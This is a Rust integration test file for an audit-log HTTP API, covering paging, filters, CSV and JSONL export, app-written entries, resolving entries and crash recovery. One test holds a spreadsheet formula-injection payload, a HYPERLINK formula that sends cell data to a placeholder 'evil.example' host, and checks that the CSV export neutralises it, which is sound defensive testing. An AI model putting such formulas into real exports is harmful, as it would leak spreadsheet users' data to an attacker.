//! The audit log over HTTP: read in pages, filtered and exported; the application's own entries; what was dealt with (O6).

use serde_json::{Value, json};

use super::client::Client;
use super::server::Server;

#[path = "audit/chains.rs"]
mod chains;
#[path = "audit/retention.rs"]
mod retention;

const LOG: &str = "/v1/organizations/acme/audit-log";

fn started() -> (Server, Client) {
    let server = Server::start();
    let admin = server.admin();
    admin.post("/v1/organizations", json!({"key": "acme", "plan": "pro"})).is(201);
    (server, admin)
}

/// A client with a key of this name and these scopes.
fn key(server: &Server, name: &str, scopes: &[&str], organization: Option<&str>) -> Client {
    let body = json!({"name": name, "scopes": scopes, "organization": organization});
    let made = server.admin().post("/v1/api-keys", body).is(201).json();
    server.client(made["key"].as_str().unwrap())
}

/// `seq action` of each entry.
fn told(entries: &[Value]) -> Vec<String> {
    entries.iter().map(|entry| format!("{} {}", entry["seq"], entry["action"].as_str().unwrap())).collect()
}

fn set_extra(admin: &Client, quantity: u64, reason: &str) {
    let body = json!({"quantity": quantity, "reason": reason});
    admin.put("/v1/organizations/acme/extra/tokens", body).is(200);
}

#[test]
fn entries_come_newest_first_with_all_that_was_written() {
    let (_server, admin) = started();
    set_extra(&admin, 5, "why");
    let entries = admin.list(LOG);
    assert_eq!(told(&entries), ["2 quota.grant", "1 organization.create"]);
    let newest = &entries[0];
    let expected = json!({"meter": "tokens", "extra": 5});
    assert_eq!((&newest["after"], &newest["before"]["extra"]), (&expected, &json!(0)));
    assert_eq!((&newest["actor"], &newest["category"]), (&json!("key:administrator"), &json!("quota")));
    assert_eq!((&newest["reason"], &newest["details"], &newest["resolved"]), (&json!("why"), &json!({}), &Value::Null));
    assert!(newest["time"].as_str().unwrap().ends_with('Z'));
    assert_eq!(newest["hash"].as_str().unwrap().len(), 64);
    let names: Vec<_> = newest.as_object().unwrap().keys().cloned().collect();
    let shape =
        ["action", "actor", "after", "before", "category", "details", "hash", "reason", "resolved", "seq", "time"];
    assert_eq!(names, shape);
    let of_team = admin.list("/v1/audit-log?organization=acme");
    assert_eq!(of_team, entries);
    admin.get("/v1/organizations/nobody/audit-log").expect_problem(404, "unknown-organization");
    admin.get("/v1/audit-log?organization=nobody").expect_problem(404, "unknown-organization");
}

#[test]
fn the_teams_log_is_apart_from_the_organizations() {
    let (server, admin) = started();
    key(&server, "app", &["read"], None);
    let entries = admin.list("/v1/audit-log");
    assert_eq!(entries[0]["action"], "key.create");
    assert!(entries.iter().all(|entry| entry["action"] != "organization.create"));
    let reader = key(&server, "reader", &["read"], Some("acme"));
    reader.get(LOG).expect_problem(403, "forbidden");
    reader.get("/v1/audit-log").expect_problem(403, "forbidden");
}

#[test]
fn pages_lead_through_the_whole_log() {
    let (_server, admin) = started();
    (1..=7).for_each(|quantity| set_extra(&admin, quantity, ""));
    let all = admin.list(LOG);
    assert_eq!(all.len(), 8);
    for limit in [1, 3, 8, 200] {
        assert_eq!(admin.list(&format!("{LOG}?limit={limit}")), all, "{limit}");
    }
    let page = admin.get(&format!("{LOG}?limit=3&category=quota")).is(200);
    let link = page.header("link").unwrap();
    assert!(link.contains("category=quota") && link.ends_with("rel=\"next\""), "{link}");
    // What is added meanwhile neither repeats nor skips an entry.
    set_extra(&admin, 8, "");
    let next = format!("{LOG}?limit=3&category=quota&cursor={}", page.json()["nextCursor"].as_str().unwrap());
    assert_eq!(
        told(admin.get(&next).is(200).json()["data"].as_array().unwrap()).join(", "),
        "5 quota.grant, 4 quota.grant, 3 quota.grant"
    );
    for bad in ["cursor=01aa", "cursor=x", "limit=201", "format=xml", "from=yesterday", "who=me"] {
        admin.get(&format!("{LOG}?{bad}")).is(422);
    }
}

#[test]
fn filters_take_both_spellings_of_an_action_and_a_span() {
    let (_server, admin) = started();
    set_extra(&admin, 5, "");
    admin.put("/v1/organizations/acme/overrides/tokens/day", json!({"max": 5})).is(200);
    admin.put("/v1/organizations/acme/plan", json!({"plan": "free"})).is(200);
    admin.put("/v1/organizations/acme/lock", json!({"reason": "r"})).is(200);
    let cases: [(&str, &[&str]); 9] = [
        ("action=plan.change", &["4 plan.change"]),
        ("action=plan_change", &["4 plan.change"]),
        ("action=limit_change", &["3 limit.change", "2 quota.grant"]),
        ("action=limit.change", &["3 limit.change"]),
        ("action=nothing", &[]),
        ("category=quota", &["4 plan.change", "3 limit.change", "2 quota.grant"]),
        ("category=billing&actor=key%3Aadministrator", &["5 billing.lock"]),
        ("actor=nobody", &[]),
        ("category=quota&action=billing.lock", &[]),
    ];
    for (query, expected) in cases {
        assert_eq!(told(&admin.list(&format!("{LOG}?{query}"))), expected, "{query}");
    }
    let all = admin.list(LOG);
    let at = |index: usize| all[index]["time"].as_str().unwrap();
    let count = |query: &str| admin.list(&format!("{LOG}?{query}")).len();
    assert_eq!(count(&format!("from={}&to={}", at(3), at(1))), 2, "the first instant is in, the last is not");
    assert_eq!((count("from=2099-01-01T00:00:00Z"), count("to=2020-01-01T00:00:00Z")), (0, 0));
    // Of a test organization every entry is looked at.
    let of_test = admin.post("/v1/organizations", json!({"key": "trying", "test": true, "plan": "pro"})).is(201).json();
    for (from, expected) in [("2020-01-01T00:00:00Z", 1), ("2099-01-01T00:00:00Z", 0)] {
        let path = format!("/v1/organizations/{}/audit-log?from={from}", of_test["id"].as_str().unwrap());
        assert_eq!(admin.list(&path).len(), expected, "{from}");
    }
}

#[test]
fn the_log_is_exported_as_csv_and_as_lines_in_the_same_pages() {
    let (_server, admin) = started();
    set_extra(&admin, 5, "so, \"why\"?");
    let csv = admin.get(&format!("{LOG}?format=csv")).is(200);
    assert_eq!(csv.header("content-type"), Some("text/csv"));
    let lines: Vec<_> = csv.text.split("\r\n").collect();
    let names = "seq,time,actor,action,category,before,after,details,reason,resolvedAt,resolvedBy,resolvedNote,hash";
    assert_eq!((lines.len(), lines[0]), (4, names));
    assert!(lines[1].starts_with("2,") && lines[1].contains("\"so, \"\"why\"\"?\""), "{}", lines[1]);
    assert!(lines[1].contains("\"{\"\"meter\"\":\"\"tokens\"\",\"\"extra\"\":5}\""), "{}", lines[1]);
    assert_eq!(admin.call("GET", LOG).header("accept", "text/csv").send().is(200).text, csv.text);

    let jsonl = admin.get(&format!("{LOG}?format=jsonl&limit=1")).is(200);
    assert_eq!(jsonl.header("content-type"), Some("application/x-ndjson"));
    let entry: Value = serde_json::from_str(jsonl.text.strip_suffix('\n').unwrap()).unwrap();
    assert_eq!(entry, admin.list(LOG)[0]);
    let link = jsonl.header("link").unwrap();
    let next = link.trim_start_matches('<').split('>').next().unwrap();
    let rest = admin.call("GET", next).header("accept", "application/x-ndjson").send().is(200);
    assert_eq!((rest.text.lines().count(), rest.header("link")), (1, None));
}

#[test]
fn no_export_has_a_formula_in_it_and_each_has_the_name_of_a_file() {
    let (_server, admin) = started();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    admin.post(LOG, json!({"action": "chat.x", "category": "chat", "reason": formula})).is(201);
    admin.post(&format!("{LOG}/2/resolve"), json!({"note": "@SUM(1)"})).is(200);
    let csv = admin.get(&format!("{LOG}?format=csv")).is(200);
    let quoted = "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"";
    assert!(csv.text.contains(&format!(",{quoted},")) && csv.text.contains(",'@SUM(1),"), "{}", csv.text);
    let lines = admin.get(&format!("{LOG}?format=jsonl")).is(200);
    let entry: Value = serde_json::from_str(lines.text.lines().nth(1).unwrap()).unwrap();
    assert_eq!(entry["reason"], formula, "as it was written");
    let team = admin.get("/v1/audit-log?format=csv").is(200);
    for (answer, begins, ends) in
        [(csv, "acme-audit-", ".csv"), (lines, "acme-audit-", ".jsonl"), (team, "audit-", ".csv")]
    {
        let saved = answer.header("content-disposition").unwrap();
        let name = saved.strip_prefix("attachment; filename=\"").and_then(|rest| rest.strip_suffix('"')).unwrap();
        let day = name.strip_prefix(begins).and_then(|rest| rest.strip_suffix(ends)).unwrap();
        assert!(day.len() == 10 && day.starts_with("20"), "{name}");
    }
}

#[test]
fn the_application_adds_entries_of_its_own() {
    let (server, admin) = started();
    let app = key(&server, "backend", &["ingest"], None);
    let body = r#"{"action": "document.upload", "category": "knowledge_base", "reason": "nightly",
        "details": {"name": "a  b\n", "bytes": 12345678901234567890.10}, "after": { }}"#;
    let send = || app.call("POST", LOG).header("idempotency-key", "k1").json(body).send().is(201);
    let made = send();
    let entry = made.json();
    assert_eq!((&entry["seq"], &entry["actor"]), (&json!(2), &json!("app:backend")));
    assert_eq!((&entry["category"], &entry["reason"]), (&json!("knowledge_base"), &json!("nightly")));
    assert_eq!((&entry["before"], &entry["after"]), (&json!({}), &json!({})));
    assert_eq!(made.raw("/details"), r#"{"name":"a  b\n","bytes":12345678901234567890.10}"#);
    let again = send();
    assert_eq!((again.header("idempotent-replayed"), &again.text), (Some("true"), &made.text));
    assert_eq!(admin.list(LOG)[0], entry);
    assert_eq!(admin.list(LOG).len(), 2);
    // It stands in one line of an export, and not among what figures follow from.
    assert_eq!(admin.get(&format!("{LOG}?format=jsonl")).is(200).text.lines().count(), 2);
    app.post(LOG, json!({"action": "trial.reminded", "category": "trial"})).is(201);
    let explained = admin.get("/v1/organizations/acme/explain").is(200).json();
    assert_eq!(told(explained["audit"].as_array().unwrap()), ["1 organization.create"]);
    let other = app.call("POST", LOG).header("idempotency-key", "k1").json(r#"{"action": "x", "category": "chat"}"#);
    other.send().expect_problem(422, "idempotency-mismatch");
    for reader in [key(&server, "r", &["read", "consume"], None), key(&server, "b", &["read"], Some("acme"))] {
        reader.post(LOG, body).expect_problem(403, "forbidden");
    }
    key(&server, "bound", &["ingest"], Some("acme")).post(LOG, body).is(201);
}

#[test]
fn what_only_metergate_writes_or_is_too_large_is_refused_where_it_stands() {
    let (server, admin) = started();
    let app = key(&server, "backend", &["ingest"], None);
    let large = "x".repeat(17_000);
    let cases = [
        (json!({"action": "plan.change", "category": "quota"}), "#/action"),
        (json!({"action": "plan_change", "category": "quota"}), "#/action"),
        (json!({"action": "audit.resolve", "category": "config"}), "#/action"),
        (json!({"action": "two words", "category": "chat"}), "#/action"),
        (json!({"action": "", "category": "chat"}), "#/action"),
        (json!({"action": "x".repeat(129), "category": "chat"}), "#/action"),
        (json!({"category": "chat"}), "#/action"),
        (json!({"action": "x", "category": "documents"}), "#/category"),
        (json!({"action": "x"}), "#/category"),
        (json!({"action": "x", "category": "chat", "details": [1]}), "#/details"),
        (json!({"action": "x", "category": "chat", "before": "text"}), "#/before"),
        (json!({"action": "x", "category": "chat", "after": {"a": large}}), "#/after"),
        (json!({"action": "x", "category": "chat", "reason": "x".repeat(5000)}), "#/reason"),
        (json!({"action": "x", "category": "chat", "actor": "me"}), "#/actor"),
    ];
    for (body, pointer) in cases {
        let problem = app.post(LOG, &body).expect_problem(422, "validation");
        assert_eq!(problem["errors"][0]["pointer"], pointer, "{body}");
    }
    app.post(LOG, "{").expect_problem(400, "malformed-body");
    app.post("/v1/organizations/nobody/audit-log", json!({"action": "x", "category": "chat"}))
        .expect_problem(404, "unknown-organization");
    assert_eq!(admin.list(LOG).len(), 1, "nothing of that was written");
}

#[test]
fn an_entry_is_dealt_with_by_an_entry_that_names_it() {
    let (server, admin) = started();
    let app = key(&server, "backend", &["ingest"], None);
    app.post(LOG, json!({"action": "sync.failed", "category": "error"})).is(201);
    let resolve =
        |seq: u64, note: &str| admin.post(&format!("{LOG}/{seq}/resolve"), json!({"note": note})).is(200).json();
    let dealt_with = resolve(2, "a new token");
    assert_eq!((&dealt_with["seq"], &dealt_with["action"]), (&json!(2), &json!("sync.failed")));
    let resolved = &dealt_with["resolved"];
    assert_eq!((&resolved["by"], &resolved["note"]), (&json!("key:administrator"), &json!("a new token")));
    let entries = admin.list(LOG);
    assert_eq!(told(&entries), ["3 audit.resolve", "2 sync.failed", "1 organization.create"]);
    assert_eq!((&entries[0]["details"], &entries[0]["category"]), (&json!({"seq": 2}), &json!("config")));
    assert_eq!(entries[0]["after"], json!({"note": "a new token"}));
    assert_eq!((&entries[1], &resolved["at"]), (&dealt_with, &entries[0]["time"]));
    assert!(entries[2]["resolved"].is_null());
    // The same note again changes nothing; another takes its place.
    assert_eq!(resolve(2, "a new token"), dealt_with);
    assert_eq!(admin.list(LOG).len(), 3);
    assert_eq!(resolve(2, "two new tokens")["resolved"]["note"], "two new tokens");
    assert_eq!(admin.list(LOG)[0]["before"], json!({"note": "a new token"}));
    let csv = admin.get(&format!("{LOG}?format=csv&action=sync.failed")).is(200).text;
    assert!(csv.contains(",key:administrator,two new tokens,"), "{csv}");
    for path in ["99/resolve", "0/resolve", "x/resolve", "18446744073709551615/resolve"] {
        admin.post(&format!("{LOG}/{path}"), json!({"note": "n"})).expect_problem(404, "not-found");
    }
    for note in ["", "  ", &"x".repeat(5000)] {
        let problem = admin.post(&format!("{LOG}/2/resolve"), json!({"note": note})).expect_problem(422, "validation");
        assert_eq!(problem["errors"][0]["pointer"], "#/note");
    }
    app.post(&format!("{LOG}/2/resolve"), json!({"note": "n"})).expect_problem(403, "forbidden");
}

#[test]
fn entries_and_what_became_of_them_are_there_after_a_crash() {
    let (mut server, admin) = started();
    admin.post(LOG, json!({"action": "sync.failed", "category": "error"})).is(201);
    admin.post(&format!("{LOG}/2/resolve"), json!({"note": "n"})).is(200);
    let entries = admin.list(LOG);
    assert_eq!(entries[1]["actor"], "app:administrator");
    server.kill();
    server.start_again();
    assert_eq!(server.admin().list(LOG), entries);
}

#[test]
fn a_page_of_a_long_log_may_be_empty_and_lead_on() {
    let (_server, admin) = started();
    // More entries than are looked at for one page, none of which is asked for.
    let note = json!({"action": "x", "category": "chat"}).to_string();
    std::thread::scope(|scope| {
        for _ in 0..8 {
            scope.spawn(|| (0..700).for_each(|_| drop(admin.post(LOG, &note).is(201))));
        }
    });
    let first = admin.get(&format!("{LOG}?action=organization.create")).is(200).json();
    assert_eq!(first["data"], json!([]));
    assert!(first["nextCursor"].is_string());
    assert_eq!(told(&admin.list(&format!("{LOG}?action=organization.create"))), ["1 organization.create"]);
}
